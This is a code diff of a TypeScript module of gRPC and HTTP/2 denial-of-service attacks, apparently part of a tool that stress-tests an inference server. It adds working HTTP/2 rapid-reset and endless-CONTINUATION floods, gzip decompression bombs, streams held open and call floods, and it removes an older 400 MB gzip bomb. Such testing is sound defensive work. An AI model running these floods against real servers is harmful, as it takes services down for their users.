@@ -1,50 +1,78 @@
+import type { Socket } from 'node:net';
 import { gzipSync } from 'node:zlib';
-import { call, callOnce, openSession } from '../grpc-client.js';
-import { field, framed, inferMessage, sloParameter, times, varint } from '../protobuf.js';
+import {
+  CONTINUATION,
+  callHeaders,
+  countEnds,
+  DATA,
+  END_HEADERS,
+  END_STREAM,
+  frame,
+  HEADERS,
+  inferHeaders,
+  leave,
+  openHttp2,
+  RST_STREAM,
+  WIDE_WINDOW,
+} from '../frames.js';
+import { call, callOnce, INFER, openSession } from '../grpc-client.js';
+import { field, framed, inferMessage, sloParameter, times } from '../protobuf.js';
+import { write } from '../sockets.js';
 import { repeat, sleepUntil, type Tally } from '../tally.js';
-import type { Attack, Target } from '../target.js';
+import { type Attack, SMALL, type Target } from '../target.js';
 
-/** gRPC messages that are dear to decode, to keep or to answer. */
+/** gRPC: messages that are dear to decode, keep or answer, floods of HTTP/2 frames, and too many right calls. */
 
 const MEGA = 1_000_000;
+const SERVICE = '/inference.GRPCInferenceService';
+const NOTHING = framed(Buffer.alloc(0));
+/** Calls of a connection at a time: fewer than the server allows. */
+const AT_A_TIME = 100;
+/** Frames, or streams, of a flood that are written at once. */
+const BATCH = 200;
 
-const messages: readonly (readonly [string, () => Buffer])[] = [
-  // Shapes and lists come packed, a byte an element.
-  ['grpc shape of 20 million', () => inferMessage([], [field(3, Buffer.alloc(20 * MEGA, 1))])],
-  ['grpc 30 million int_contents', () => inferMessage([], [field(5, field(2, Buffer.alloc(30 * MEGA, 1)))])],
-  ['grpc 5 million raw contents', () => inferMessage([times(5 * MEGA, field(7, ''))])],
-  [
-    'grpc an output named 1 million times',
-    () => inferMessage([sloParameter(60_000), times(MEGA, field(6, field(1, 'output')))]),
-  ],
-  ['grpc 10 million empty inputs', () => inferMessage([times(10 * MEGA, field(5, ''))])],
-  ['grpc 5 million parameters', () => inferMessage([times(5 * MEGA, field(4, ''))])],
-  ['grpc 10,000 levels of groups', () => inferMessage([Buffer.alloc(10_000, 0x7b)])],
-  ['grpc lengths beyond the message', () => inferMessage([varint(5 * 8 + 2), varint(2 ** 40)])],
+/** A call without the frames' stream. */
+interface Call {
+  readonly path: string;
+  readonly message: Buffer;
+}
+
+const INFERENCE: Call = { path: INFER, message: framed(inferMessage()) };
+
+/** Asked besides inferences. */
+const OTHERS: readonly Call[] = [
+  { path: '/grpc.health.v1.Health/Check', message: NOTHING },
+  { path: `${SERVICE}/ServerLive`, message: NOTHING },
+  { path: `${SERVICE}/ServerMetadata`, message: NOTHING },
+  { path: `${SERVICE}/ModelMetadata`, message: framed(field(1, SMALL.name)) },
+  { path: `${SERVICE}/NoSuchMethod`, message: NOTHING },
 ];
+
+export const GRPC_ATTACKS: readonly Attack[] = [
+  attack('grpc shape of 20 million', (...to) =>
+    // Packed, a byte an element.
+    callAgain(...to, 3, framed(inferMessage([], [field(3, Buffer.alloc(20 * MEGA, 1))]))),
+  ),
+  attack('grpc 64 kB gzip of empty messages', (...to) =>
+    callAgain(...to, 2, framed(submessageBomb(5), true), { 'grpc-encoding': 'gzip' }),
+  ),
+  attack('grpc 50 streams hold 60 MB each', holdStreams),
+  attack('grpc answers that are never read', neverRead),
+  attack('grpc calls without inference', (...to) => callOn(...to, OTHERS, 4)),
+  attack('grpc 20,000 requests under way', (...to) => callOn(...to, [INFERENCE], 200)),
+  attack('h2 rapid reset', (...to) => flood(...to, rapidReset)),
+  attack('h2 endless continuation', (...to) => flood(...to, continuation)),
+];
+
+function attack(name: string, run: Attack['run']): Attack {
+  return { name, setting: 'plain', run };
+}
 
 /** 64 kB on the wire: 32 million empty messages. */
 export function submessageBomb(fieldNumber: number, path: readonly number[] = []): Buffer {
   const many = times(32 * MEGA - 64, Buffer.from([fieldNumber * 8 + 2, 0]));
   return gzipSync(path.reduceRight((inner, number) => field(number, inner), many));
 }
-
-export const GRPC_ATTACKS: readonly Attack[] = [
-  ...messages.map(
-    ([name, make]): Attack => ({
-      name,
-      setting: 'plain',
-      run: (target, tally, untilMs) => callAgain(target, tally, untilMs, 3, framed(make())),
-    }),
-  ),
-  { name: 'grpc gzip bomb of 400 MB', setting: 'plain', run: gzipBomb },
-  { name: 'grpc 64 kB gzip of empty messages', setting: 'plain', run: submessages },
-  { name: 'grpc 64 kB gzip of empty messages', setting: 'token', run: submessages },
-  { name: 'grpc 50 streams hold 60 MB each', setting: 'plain', run: holdStreams },
-  { name: 'grpc 50 streams hold 60 MB each', setting: 'token', run: holdStreams },
-  { name: 'grpc 1,000 announced and not sent', setting: 'plain', run: announce },
-  { name: 'grpc answers that are never read', setting: 'plain', run: neverRead },
-];
 
 function callAgain(
   { grpc, tls }: Target,
@@ -57,16 +85,6 @@ function callAgain(
   return repeat(lanes, untilMs, () => callOnce(grpc, tls, tally, { body, headers }));
 }
 
-function gzipBomb(target: Target, tally: Tally, untilMs: number): Promise<void> {
-  const body = framed(gzipSync(Buffer.alloc(400 * MEGA)), true);
-  return callAgain(target, tally, untilMs, 4, body, { 'grpc-encoding': 'gzip' });
-}
-
-function submessages(target: Target, tally: Tally, untilMs: number): Promise<void> {
-  const body = framed(submessageBomb(5), true);
-  return callAgain(target, tally, untilMs, 2, body, { 'grpc-encoding': 'gzip' });
-}
-
 /** Messages that lack their last bytes, on ten connections. */
 async function holdStreams({ grpc, tls }: Target, tally: Tally, untilMs: number): Promise<void> {
   const body = framed(Buffer.alloc(60 * MEGA)).subarray(0, -10);
@@ -74,16 +92,6 @@ async function holdStreams({ grpc, tls }: Target, tally: Tally, untilMs: number)
     const session = await openSession(grpc, tls, tally);
     if (session === null) continue;
     for (let j = 0; j < 5; j++) void call(session, tally, { body, end: false });
-  }
-  await sleepUntil(untilMs);
-}
-
-async function announce({ grpc, tls }: Target, tally: Tally, untilMs: number): Promise<void> {
-  const body = framed(Buffer.alloc(60 * MEGA)).subarray(0, 5);
-  for (let i = 0; i < 20; i++) {
-    const session = await openSession(grpc, tls, tally);
-    if (session === null) continue;
-    for (let j = 0; j < 50; j++) void call(session, tally, { body, end: false });
   }
   await sleepUntil(untilMs);
 }
@@ -99,4 +107,83 @@ async function neverRead({ grpc, tls }: Target, tally: Tally, untilMs: number): 
     for (let j = 0; j < 100; j++) void call(session, tally, { body: j === 0 ? repeated : body });
   }
   await sleepUntil(untilMs);
+}
+
+/** Frames that a connection sends next; `round` counts from 0. */
+type Flood = (round: number) => Buffer;
+
+function rapidReset(round: number): Buffer {
+  const cancel = Buffer.from([0, 0, 0, 8]);
+  return Buffer.concat(
+    Array.from({ length: BATCH }, (_, i) => {
+      const id = 2 * (round * BATCH + i) + 1;
+      return [frame(HEADERS, END_HEADERS, id, inferHeaders()), frame(RST_STREAM, 0, id, cancel)];
+    }).flat(),
+  );
+}
+
+/** Headers that never end. */
+function continuation(round: number): Buffer {
+  const more = frame(CONTINUATION, 0, 1, inferHeaders({ x: 'a'.repeat(100) }));
+  const opening = round === 0 ? frame(HEADERS, 0, 1, inferHeaders()) : Buffer.alloc(0);
+  return Buffer.concat([opening, times(BATCH, more)]);
+}
+
+/** Four connections, of which two never read, each replaced when it is closed. */
+async function flood(target: Target, tally: Tally, untilMs: number, next: Flood): Promise<void> {
+  let connections = 0;
+  await repeat(4, untilMs, async () => {
+    const socket = await openHttp2(target, tally);
+    if (socket === null) return;
+    if (connections++ % 2 === 0) countEnds(socket, tally);
+    else socket.pause();
+    for (let round = 0; performance.now() < untilMs; round++) {
+      // One that never reads waits for the server's patience.
+      const isOver = sleepUntil(untilMs).then(() => false);
+      if (!(await Promise.race([write(socket, next(round)), isOver]))) break;
+      await new Promise((resolve) => setImmediate(resolve));
+    }
+    leave(socket);
+  });
+}
+
+/** Connections that always have calls under way, each replaced when it is closed. */
+async function callOn(
+  target: Target,
+  tally: Tally,
+  untilMs: number,
+  calls: readonly Call[],
+  connections: number,
+): Promise<void> {
+  await repeat(connections, untilMs, async () => {
+    const socket = await openHttp2(target, tally);
+    if (socket === null) return;
+    let stream = 1;
+    const next = () => {
+      if (!socket.writable || performance.now() > untilMs) return;
+      socket.write(bytesOf(calls[((stream - 1) / 2) % calls.length], stream));
+      stream += 2;
+    };
+    countEnds(socket, tally, () => {
+      tally.add('ended');
+      next();
+    });
+    socket.cork();
+    socket.write(WIDE_WINDOW);
+    for (let i = 0; i < AT_A_TIME; i++) next();
+    socket.uncork();
+    await Promise.race([closed(socket), sleepUntil(untilMs)]);
+    leave(socket);
+  });
+}
+
+function bytesOf({ path, message }: Call, stream: number): Buffer {
+  return Buffer.concat([
+    frame(HEADERS, END_HEADERS, stream, callHeaders(path)),
+    frame(DATA, END_STREAM, stream, message),
+  ]);
+}
+
+function closed(socket: Socket): Promise<void> {
+  return new Promise((resolve) => socket.once('close', () => resolve()));
 }
